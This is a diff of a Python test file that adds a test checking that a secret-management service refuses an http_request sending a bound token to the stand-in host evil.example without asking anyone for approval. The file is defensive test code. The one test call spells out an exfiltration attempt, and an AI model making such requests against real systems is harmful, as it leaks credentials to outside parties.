@@ -233,6 +233,19 @@ async def test_a_secret_is_in_no_record(tmp_path: Path, server: Raw, monkeypatch
     assert any("TOKEN" in text for text in everything)
 
 
+async def test_nobody_is_asked_about_a_secret_that_can_not_be_sent(tmp_path: Path) -> None:
+    asked: list[Question] = []
+
+    async def ask(question: Question) -> bool:
+        asked.append(question)
+        return True
+
+    async with opened(tmp_path, {"secrets": {"TOKEN": ["api.example.org"]}}, ask=ask) as service:
+        headers = {"k": {"secret": "TOKEN"}}
+        result = await service.invoke("http_request", {"url": "https://evil.example/", "headers": headers})
+    assert (result.error.code, result.error.rule, asked) == ("permission_denied", "secrets.TOKEN", [])
+
+
 async def test_a_project_cannot_bind_secrets(tmp_path: Path, server: Raw, monkeypatch: Any) -> None:
     monkeypatch.setenv("ALBERT_SECRET_TOKEN", "a-value-that-nobody-sees")
     (tmp_path / "work" / ".albert").mkdir(parents=True)
